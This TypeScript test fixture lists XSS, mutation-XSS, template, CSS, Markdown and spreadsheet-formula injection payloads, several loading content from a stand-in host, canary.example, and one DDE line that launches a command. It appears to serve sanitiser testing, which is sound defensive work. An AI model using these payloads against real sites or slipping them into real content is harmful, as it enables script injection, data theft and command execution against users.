/**
 * What attackers write into text fields. Each payload calls `xss()`, opens an alert or requests
 * something from `CANARY`, unless it is treated as plain text.
 */

/** A host that nothing of ours uses: a request to it follows a payload. */
export const CANARY = 'canary.example'

const closed = [
  // Tags.
  '<script>xss()</script>',
  '<ScRiPt >xss()</sCrIpT\t>',
  '<scr<script>ipt>xss()</script>',
  `<script src=//${CANARY}></script>`,
  '<iframe src=javascript:xss()></iframe>',
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  `<iframe src="https://${CANARY}/frame"></iframe>`,
  '<object data="data:text/html,<script>parent.xss()</script>"></object>',
  `<base href="https://${CANARY}/">`,
  `<meta http-equiv=refresh content="0;url=https://${CANARY}/">`,
  `<link rel=stylesheet href=//${CANARY}>`,
  `<form action="https://${CANARY}/"><button autofocus onfocus="xss()">a</button></form>`,
  // Handlers.
  '<img src=x onerror=xss()>',
  '<img src=x onerror="&#120;ss()">',
  '<IMG SRC=x OnErRoR=xss``>',
  '<body onload=xss()>',
  '<input autofocus onfocus=xss()>',
  '<details open ontoggle=xss()>',
  '<video src=x onerror=xss()>',
  '<p tabindex=1 onfocus=xss() autofocus>a</p>',
  '<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart="xss()">a</b>',
  `<img srcset="https://${CANARY}/a.png 1x">`,
  `<video poster="https://${CANARY}/a.png"></video>`,
  `<table background="https://${CANARY}/a.png"><td>a</table>`,
  // Links.
  'javascript:xss()',
  ' JaVaScRiPt:xss()',
  'java\tscript:xss()',
  '\u0001javascript:xss()',
  'vbscript:xss()',
  'data:text/html,<script>xss()</script>',
  '<a href=javascript:xss()>a</a>',
  '<a href="java&#x0A;script:xss()">a</a>',
  '<a href="javascript&colon;xss()">a</a>',
  '<a href="\u0001javascript:xss()">a</a>',
  '<a href="data:text/html,<script>xss()</script>">a</a>',
  '<a href="blob:null/x" ping="//canary.example">a</a>',
  // In the form of an allowed URL.
  '/"><svg/onload=xss()>',
  "/x'onerror='xss()",
  '/javascript:xss()',
  `https://${CANARY}/"><img/src=x/onerror=xss()>`,
  `https://${CANARY}/?a="onmouseover="xss()`,
  'https://roda.example/#javascript:xss()',
  // Drawings.
  '<svg onload=xss()>',
  '<svg><script>xss()</script></svg>',
  '<svg><a xlink:href="javascript:xss()"><text y="9">a</text></a></svg>',
  '<svg><animate onbegin=xss() attributeName=x dur=1s></svg>',
  '<svg><a><animate attributeName=href values=javascript:xss() /><text y=9>a</text></a></svg>',
  `<svg><use href="https://${CANARY}/a.svg#a"/></svg>`,
  `<svg><image href="https://${CANARY}/a.png"/></svg>`,
  '<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>',
  // Harmless when parsed at first, and dangerous once serialised and parsed again.
  '<noscript><p title="</noscript><img src=x onerror=xss()>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=xss()>"></textarea>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss()&gt;"></style></mglyph></table></mtext></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=xss()>"></a></style></svg>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()></style></mglyph></form></mtext></math>',
  '<select><noembed></select><script>xss()</script></noembed></select>',
  '<template><s><template><s><img src=x onerror=xss()>@</s></template></s></template>',
  '<!--><img src=x onerror=xss()>-->',
  '<![CDATA[><img src=x onerror=xss()>]]>',
  '<?xml ?><img src=x onerror=xss()>',
  '<img alt="`><script>xss()</script>" src=x>',
  '<listing>&lt;img src=x onerror=xss()&gt;</listing>',
  // Payloads that break out of an attribute, an element or code.
  '"><svg onload=xss()>',
  '" onfocus=xss() autofocus a="',
  "' onmouseover='xss()",
  '`onerror=xss()`',
  '--><svg onload=xss()>',
  ']]><svg onload=xss()>',
  '</title><svg onload=xss()>',
  "';xss();//",
  '\\";xss();//',
  '*/xss()/*',
  '\u2028xss()\u2029',
  // Templates.
  '{{xss()}}',
  "{{constructor.constructor('xss()')()}}",
  '$'.concat('{xss()}'),
  '<%= xss() %>',
  '{"__html":"<svg onload=xss()>"}',
  '__proto__',
  'constructor',
  // Other encodings of a character.
  '&lt;svg onload=xss()&gt;',
  '&amp;lt;svg onload=xss()&amp;gt;',
  '%3Csvg onload=xss()%3E',
  '\\u003csvg onload=xss()\\u003e',
  '＜svg onload=xss()＞',
  '+ADw-script+AD4-xss()+ADw-/script+AD4-',
  // Invisible characters.
  '\u202e<svg onload=xss()>\u202c',
  '<\u200bsvg onload=xss()>',
  '<svg\ufeffonload=xss()>',
  '<svg\u000conload=xss()>',
  '<\u0000svg onload=xss()>',
  'java\u00adscript:xss()',
  // Styles.
  '<style>@import "//canary.example"</style>',
  `<p style="background:url(https://${CANARY}/a.png)">a</p>`,
  `;background:url(//${CANARY})`,
  `}*{background:url(//${CANARY})}`,
  '<p style="x:expression(xss())">a</p>',
  `<p style="position:fixed;inset:0">a</p>`,
  // Markdown.
  '[a](javascript:xss())',
  `![a](https://${CANARY}/a.png)`,
  '![a](x"onerror="xss())',
  '[a]: javascript:xss()',
  // Formulas.
  '=HYPERLINK("javascript:xss()")',
  `+cmd|'/C calc'!A0`,
  '-2+3+xss()',
  '@SUM(1+1)*xss()',
  '\t=xss()',
]

/** Unclosed payloads, which include whatever is written after them. */
const open = [
  '<img src=x onerror=xss()//',
  '<script>xss()//',
  '<plaintext><svg onload=xss()>',
  '<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=xss()>">',
]

export const payloads: readonly string[] = [...closed, ...open]

/** Payloads in place of the URL of a picture. */
export const pictureAddresses: readonly string[] = [
  'javascript:xss()',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="xss()"/>',
  'data:text/html,<script>xss()</script>',
  'x" onerror="xss()',
  "/files/x.webp'onerror='xss()",
]

/** The most texts: a field too short for all payloads takes some, spread evenly. */
const MOST_TEXTS = 24

/** The payloads that fit a field, in few texts; an unclosed one is a text of its own. */
export function pack(fits: (text: string) => boolean = () => true): string[][] {
  const texts: string[][] = []
  for (const payload of closed.filter(fits)) {
    const roomy = texts.find((text) => fits(written([...text, payload])))
    if (roomy) roomy.push(payload)
    else texts.push([payload])
  }
  for (const payload of open.filter(fits)) texts.push([payload])
  const step = Math.max(1, texts.length / MOST_TEXTS)
  return texts.filter((_, index) => Math.floor(index / step) !== Math.floor((index - 1) / step))
}

/** A text of `pack`, as it is sent. */
export function written(text: readonly string[]): string {
  return text.join(' ')
}
